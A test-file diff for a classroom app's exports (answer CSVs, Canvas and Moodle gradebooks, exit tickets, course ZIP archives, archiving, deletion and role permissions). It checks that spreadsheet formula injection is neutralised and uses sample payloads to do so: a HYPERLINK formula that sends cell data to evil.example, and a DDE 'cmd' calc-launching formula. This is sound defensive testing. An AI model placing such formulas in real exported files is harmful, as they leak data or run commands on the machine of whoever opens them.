@@ -1,0 +1,360 @@
+"""Results taken home: what a spreadsheet, Canvas, Moodle and a program find in the files, and who may have them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import pytest
+import sqlalchemy as sa
+from fastapi import FastAPI
+from hypothesis import given
+from hypothesis import strategies as st
+from starlette.testclient import TestClient
+
+from app.exchange.gradebook import Column, canvas, moodle
+from app.exchange.spreadsheet import csv_lines, harmless
+from app.grading.grade import grade
+from app.main import create_app
+from app.settings import Settings
+from app.store import Fixed, Graded, Plan, Policies, Spot, Student, Teacher
+from app.store.classwork import Draft
+from app.store.tables import log, metadata
+from tests.helpers.classes import World
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
+LLAMA = Fixed("llama-7b", 100)
+
+
+def read(text: str) -> list[dict[str, str]]:
+    """A CSV file as a program reads it."""
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+
+
+# One cell
+
+
+@pytest.mark.parametrize(
+    "evil", ["=1", "+1+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+1", "-", "+", "=", "-2+3+cmd|' /C calc'!A0"]
+)
+def test_a_text_that_would_be_a_formula_begins_with_an_apostrophe(evil: str) -> None:
+    """The beginnings that spreadsheets evaluate, also behind spaces and in their wide forms."""
+    assert harmless(evil) == f"'{evil}"
+
+
+@pytest.mark.parametrize("number", [-3, 2.5, "-3", "+7", "-12.5", "1,5", "100"])
+def test_numbers_stay_numbers(number: object) -> None:
+    """Below nothing, with a sign, with either point: what is a number is not touched."""
+    assert harmless(number) == number  # type: ignore[arg-type]
+
+
+@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=1))
+def test_no_text_becomes_a_formula_and_none_is_lost(texts: list[str]) -> None:
+    """Whatever is typed, each cell comes back as typed but for one apostrophe, and none begins as a formula does."""
+    [row] = csv.reader(io.StringIO("".join(csv_lines([texts])).removeprefix("\ufeff"), newline=""))
+    assert [cell.removeprefix("'") if cell != text else cell for cell, text in zip(row, texts, strict=True)] == texts
+    for cell in row:
+        assert re.match(r"\s*[=+@-]|[\t\r\n]", cell) is None or re.fullmatch(r"[+-]?[\d]+([.,]\d+)?", cell)
+
+
+def test_a_row_says_numbers_without_quotes_and_nothing_as_nothing() -> None:
+    """Worked by hand: whole numbers without a point, yes and no as words, every text in quotes."""
+    assert "".join(csv_lines([("a", 14.0, 2.5, True, None, -1)])) == '\ufeff"a",14,2.5,"yes","",-1\r\n'
+
+
+# Gradebooks
+
+
+def student(number: int, name: str, key: str | None = None) -> Student:
+    return Student(number, 1, name, key, None)
+
+
+def test_canvas_finds_its_columns_and_its_row_of_points() -> None:
+    """Student, ID, SIS User ID, SIS Login ID and Section come first; the second row says Points Possible."""
+    text = canvas([student(1, "Kim Lee", "s17"), student(2, EVIL)], [Column("Week 3", 14, {1: 12.5})])
+    header, points, kim, evil = csv.reader(io.StringIO(text))
+    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 3"]
+    assert (points[0].strip(), points[-1]) == ("Points Possible", "14")
+    assert kim == ["Kim Lee", "", "s17", "s17", "", "12.5"]
+    assert evil == [f"'{EVIL}", "", "", "", "", ""]
+    assert not text.startswith("\ufeff")  # Canvas would take it for a part of the first title
+
+
+@pytest.mark.parametrize("title", ["Final Grade quiz", "Current Score", "Override Status", "Week (3)", "Week (12) "])
+def test_no_title_is_taken_for_one_of_canvas_own(title: str) -> None:
+    """Canvas drops columns with these words in their titles, and reads a number in brackets at the end as its key."""
+    header = next(csv.reader(io.StringIO(canvas([], [Column(title, 1, {}), Column(title, 1, {})]))))[5:]
+    assert len(set(header)) == 2
+    for name in header:
+        assert not re.search("Current Score|Final Grade|Override Status", name)
+        assert not re.search(r"\(\d+\)$", name.strip())
+
+
+def test_moodle_gets_per_cent_of_those_it_can_find() -> None:
+    """Seven of fourteen are 50; who has no number is left out, since Moodle would grade the row above again."""
+    text = moodle([student(1, "Kim", "17"), student(2, "Lou"), student(3, "Max", "18")], [Column("Week", 14, {1: 7})])
+    assert list(csv.reader(io.StringIO(text))) == [
+        ["ID number", "Full name", "Week (%)"],
+        ["17", "Kim", "50"],
+        ["18", "Max", ""],
+    ]
+    mails = moodle([student(1, "Kim", "kim@example.org")], [])
+    assert mails.startswith("Email address,")
+
+
+# A course
+
+
+class Taught:
+    """A course with two students, an activity with two sheets, and an anonymous and a named ticket."""
+
+    def __init__(self, app: FastAPI, number: int = 1) -> None:
+        self.world = World(app)
+        self.ada = self.world.teacher(f"ada@{number}.example")
+        self.course = self.world.course(f"Transformers {number}", self.ada)
+        plan = Plan("Week 3", date(2026, 3, 2), Policies())
+        self.activity = self.world.activity(self.course, plan=plan)
+        named = replace(plan, title="Week 4", policies=Policies(ticket_anonymous=False))
+        self.named = self.world.activity(self.course, sheets=(), plan=named)
+        self.kim, self.lou = (self.world.student(self.course, name)[0] for name in ("Kim Secretname", EVIL))
+        self.hand_in(self.kim, 0, {"queries.rows": "100"}, "first")
+        self.hand_in(self.kim, 0, {"queries.rows": "100", "queries.columns": "4096/32"}, "second")
+        self.hand_in(self.lou, 1, {"queries.rows": EVIL, "keys.rows": "-5"}, "third")
+        for where, who in ((self.activity, self.kim), (self.activity, self.lou), (self.named, self.kim)):
+            self.work.arrive(where.id, who.id)
+            answers = {"muddiest": f"{who.id} wonders about {where.plan.title}"}
+            anonymous = where.policies.ticket_anonymous
+            self.work.hand_in_ticket(where.id, who.id, f"form {where.id} {who.id}", answers, anonymous=anonymous)
+
+    @property
+    def work(self) -> Any:
+        return self.world.parts.store.classwork
+
+    def hand_in(self, who: Student, item: int, answers: dict[str, str], client: str) -> None:
+        sheet = str(self.activity.content.items[item].worksheet["key"])
+        variant = self.world.parts.library.variant(sheet)
+        report = grade(variant, answers)
+        marks = {str(place): mark.kind for place, mark in report.marks.items()}
+        spot = Spot(who.id, self.activity.id, 1, item, self.activity.content.items[item].sheet)
+        fixed = Fixed(variant.model.key, variant.tokens)
+        graded = Graded(marks, (), report.score, report.out_of)
+        self.work.record(spot, client, Draft(answers, 1, fixed), graded, handed_in=True)
+
+    def get(self, name: str) -> Any:
+        with self.world.browser(teacher=self.ada) as browser:
+            got = browser.get(f"/courses/{self.course.id}/exports/{name}")
+        assert got.status_code == 200, got.text
+        return got
+
+
+@pytest.fixture
+def anywhere(database_url: str, tmp_path: Path) -> Iterator[FastAPI]:
+    """The app on each kind of database."""
+    made = create_app(Settings(data_dir=tmp_path, database_url=database_url))
+    with TestClient(made):
+        yield made
+
+
+@pytest.fixture
+def app(tmp_path: Path) -> Iterator[FastAPI]:
+    """The app on SQLite."""
+    made = create_app(Settings(data_dir=tmp_path, database_url=""))
+    with TestClient(made):
+        yield made
+
+
+@pytest.fixture
+def taught(app: FastAPI) -> Taught:
+    return Taught(app)
+
+
+def test_every_box_of_every_try_has_a_row(anywhere: FastAPI) -> None:
+    """Three tries of fourteen boxes are 42 rows; what was typed and its mark stand in them, and which try counts."""
+    taught = Taught(anywhere)
+    got = taught.get("answers.csv")
+    assert got.headers["content-disposition"] == 'attachment; filename="transformers-1-answers.csv"'
+    assert got.headers["cache-control"] == "no-store"
+    rows = read(got.text)
+    assert len(rows) == 42
+    [first, second] = [row for row in rows if row["student"].startswith("Kim") and row["box"] == "queries.rows"]
+    assert (first["try"], first["counts"], second["try"], second["counts"]) == ("1", "no", "2", "yes")
+    assert (second["answer"], second["mark"], second["activity"], second["date"]) == (
+        "100",
+        "right",
+        "Week 3",
+        "2026-03-02",
+    )
+    assert (second["model"], second["tokens"], second["handed in"]) == ("llama-7b", "100", "yes")
+    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", second["time"])
+    typed = {row["box"]: (row["answer"], row["mark"]) for row in rows if row["student"] == f"'{EVIL}"}
+    assert typed["queries.rows"] == (f"'{EVIL}", "unreadable")
+    assert typed["keys.rows"][0] == "-5"
+    assert typed["values.rows"] == ("", "empty")
+
+
+def test_the_gradebooks_count_the_last_try_on_each_sheet(taught: Taught) -> None:
+    """Two boxes right of the 28 of both sheets; the activity without a sheet is no column."""
+    rows = read(taught.get("gradebook-canvas.csv").text)
+    assert list(rows[0])[5:] == ["Week 3"]
+    assert [(row["Student"].strip(), row["Week 3"]) for row in rows] == [
+        ("Points Possible", "28"), (f"'{EVIL}", "0"), ("Kim Secretname", "2"),
+    ]  # fmt: skip
+    assert taught.get("gradebook-moodle.csv").text == "ID number,Full name,Week 3 (%)\r\n"  # nobody has a number
+
+
+def test_a_sheet_that_was_replaced_keeps_its_points(taught: Taught) -> None:
+    """With another worksheet in the place of the first, what was handed in there still counts, by its share."""
+    store = taught.world.parts.store
+    items = taught.activity.content.items
+    other = replace(items[0], worksheet={**items[0].worksheet, "tokens": 50})
+    store.activities.revise(taught.activity, replace(taught.activity.content, items=(other, items[1])))
+    [kim] = [row for row in read(taught.get("gradebook-canvas.csv").text) if row["Student"].startswith("Kim")]
+    assert kim["Week 3"] == "2"
+    assert len(read(taught.get("tries.csv").text)) == 3
+
+
+def test_anonymous_tickets_say_nothing_of_who_wrote_them(taught: Taught) -> None:
+    """In no file is a student, a number, an id or a time beside them; the named one has its name."""
+    rows = read(taught.get("exit-tickets.csv").text)
+    assert {(row["activity"], row["student"]) for row in rows} == {("Week 3", ""), ("Week 4", "Kim Secretname")}
+    assert rows[0]["question"].endswith("?")
+    archive = zipfile.ZipFile(io.BytesIO(taught.get("course.zip").content))
+    kept = json.loads(archive.read(f"activities/{taught.activity.id}.json"))["exit_tickets"]
+    assert len(kept) == 2
+    for answer in kept:
+        assert set(answer) == {"question", "text", "student_id", "day", "starred", "follow_up", "hidden"}
+        assert answer["student_id"] is None
+    named = json.loads(archive.read(f"activities/{taught.named.id}.json"))["exit_tickets"]
+    assert [answer["student_id"] for answer in named] == [taught.kim.id]
+
+
+def test_anonymous_tickets_come_in_a_new_order_each_time(taught: Taught) -> None:
+    """Twelve answers, four times: not the order of the table four times."""
+    for number in range(10):
+        student, _ = taught.world.student(taught.course, f"S{number}")
+        taught.work.arrive(taught.activity.id, student.id)
+        taught.work.hand_in_ticket(taught.activity.id, student.id, f"f{number}", {"again": str(number)}, anonymous=True)
+    orders = {tuple(row["answer"] for row in read(taught.get("exit-tickets.csv").text)) for _ in range(4)}
+    assert len(orders) > 1
+    assert len({frozenset(order) for order in orders}) == 1
+
+
+def test_the_zip_holds_the_course_and_nothing_that_lets_people_in(taught: Taught) -> None:
+    """Each file the README names is there; every try and revision is in the JSON; no code and no hash is."""
+    archive = zipfile.ZipFile(io.BytesIO(taught.get("course.zip").content))
+    readme = archive.read("README.txt").decode()
+    for name in set(archive.namelist()) - {"README.txt"}:
+        assert re.sub(r"/\d+\.", "/ID.", name) in readme
+    course = json.loads(archive.read("course.json"))
+    assert [s["name"] for s in course["students"]] == [EVIL, "Kim Secretname"]
+    kept = json.loads(archive.read(f"activities/{taught.activity.id}.json"))
+    assert [tried["answers"] for tried in kept["tries"]][1] == {"queries.rows": "100", "queries.columns": "4096/32"}
+    assert kept["revisions"][0]["items"][0]["key"] == "llama-7b"
+    assert {draft["student_id"] for draft in kept["drafts"]} == {taught.kim.id, taught.lou.id}
+    everything = " ".join(archive.read(name).decode() for name in archive.namelist())
+    for secret in (taught.activity.join_code, "no hash of any password", "resume_hash"):
+        assert secret not in everything
+
+
+def test_a_file_that_there_is_not_is_404(taught: Taught) -> None:
+    """Also for the instructor."""
+    with taught.world.browser(teacher=taught.ada) as browser:
+        assert browser.get(f"/courses/{taught.course.id}/exports/passwords.csv").status_code == 404
+
+
+def test_exports_and_the_rest_are_in_the_log_by_number(taught: Taught) -> None:
+    """The log's rows hold no name and no title; its page says both to the course's own instructor."""
+    taught.get("answers.csv")
+    with taught.world.browser(teacher=taught.ada) as browser:
+        browser.post(f"/courses/{taught.course.id}/students/{taught.lou.id}/free")
+        page = browser.get(f"/courses/{taught.course.id}/exports").text
+    assert "exported answers.csv" in page
+    assert "name freed" in page
+    assert "Ada" in page
+    with taught.world.parts.store.engine.connect() as connection:
+        rows = connection.execute(sa.select(log.c.who, log.c.what, log.c.object)).all()
+    assert (f"teacher {taught.ada.id}", "exported answers.csv", f"course {taught.course.id}") in rows
+    assert not any(word in str(rows) for word in ("Ada", "Kim", "Transformers", "evil"))
+
+
+# Put away and deleted
+
+
+def roles(taught: Taught, role: str) -> Teacher:
+    return taught.world.teacher(f"{role}@example.org", taught.course, "assistant" if role == "bo" else "instructor")
+
+
+def test_an_archived_course_is_read_and_not_changed(taught: Taught) -> None:
+    """Out of the list, no way in, nothing taken in, nothing changed, all to be seen and taken home; and back again."""
+    course, activity = f"/courses/{taught.course.id}", f"/activities/{taught.activity.id}"
+    max_, learner = taught.world.student(taught.course, "Max")
+    sheet = f"/class/{taught.activity.id}/1"
+    with taught.world.browser(teacher=taught.ada) as ada, taught.world.browser(learner=learner) as browser:
+        assert browser.post(f"{sheet}/save", data={"queries.rows": "1"}).status_code == 200
+        assert ada.post(f"{course}/archive").status_code == 303
+        listed = ada.get("/courses").text
+        assert "Archived" in listed
+        assert listed.index(taught.course.title) > listed.index("Archived")
+        changes = [
+            course, f"{course}/students", f"{course}/staff", f"{course}/students/{max_.id}/remove",
+            f"{course}/activities", activity, f"{activity}/open", f"{activity}/close",
+        ]  # fmt: skip
+        assert {ada.post(path, data={"title": "Another"}).status_code for path in changes} == {409}
+        assert {ada.get(path).status_code for path in (course, activity, f"{course}/exports")} == {200}
+        assert "Change it" not in ada.get(activity).text
+        assert ada.get(f"{course}/exports/tries.csv").status_code == 200
+        assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 409
+        assert browser.post(f"{sheet}/hand-in", data={"queries.rows": "2"}).status_code == 409
+        assert browser.get(sheet).status_code == 200
+        assert browser.get(f"/join/{taught.activity.join_code}").status_code == 404
+        assert ada.post(f"{course}/bring-back").status_code == 303
+        assert browser.post(f"{sheet}/save", data={"queries.rows": "2"}).status_code == 200
+        assert browser.get(f"/join/{taught.activity.join_code}").status_code == 200
+        assert "Archived" not in ada.get("/courses").text
+
+
+def whole(store: Any) -> dict[str, list[Any]]:
+    """Every row of every table."""
+    with store.engine.connect() as connection:
+        return {table.name: list(connection.execute(sa.select(table)).all()) for table in metadata.sorted_tables}
+
+
+def test_a_deleted_course_leaves_nothing_behind(anywhere: FastAPI) -> None:
+    """With its title typed, every table is as it was without the course, but for accounts, browsers and the log."""
+    other = Taught(anywhere, 2)
+    store = other.world.parts.store
+    before = whole(store)
+    gone = Taught(anywhere)
+    store.people.add_link("invite", "bo@example.org", gone.course.id, "assistant")
+    with gone.world.browser(teacher=gone.ada) as ada:
+        path = f"/courses/{gone.course.id}/delete"
+        refused = ada.post(path, data={"title": "transformers 1"})
+        assert refused.status_code == 422
+        assert "transformers 1" in refused.text
+        assert store.courses.find(gone.course.id)
+        assert ada.post(path, data={"title": "Transformers 1"}).status_code == 303
+        assert ada.get(f"/courses/{gone.course.id}").status_code == 404
+    after = whole(store)
+    kept = {"teachers", "sessions", "learners", "log", "links"}
+    assert {name for name in after if after[name] != before[name]} <= kept
+    assert not any(row.course_id == gone.course.id for row in after["links"])
+    assert next(row for row in after["log"] if row.what == "course deleted").object == f"course {gone.course.id}"
+    everything = str({name: rows for name, rows in after.items() if name != "log"})
+    assert not any(word in everything for word in ("Transformers 1", f"{gone.kim.id} wonders", gone.activity.join_code))
+
+
+def test_an_assistant_neither_exports_nor_deletes(taught: Taught) -> None:
+    """They see the course; what leaves it, and its end, are the instructors'."""
+    bo = roles(taught, "bo")
+    with taught.world.browser(teacher=bo) as browser:
+        assert "Take the results home" not in browser.get(f"/courses/{taught.course.id}").text
+        assert browser.get(f"/courses/{taught.course.id}/exports/course.zip").status_code == 403
+        assert browser.post(f"/courses/{taught.course.id}/delete", data={"title": "Transformers 1"}).status_code == 403
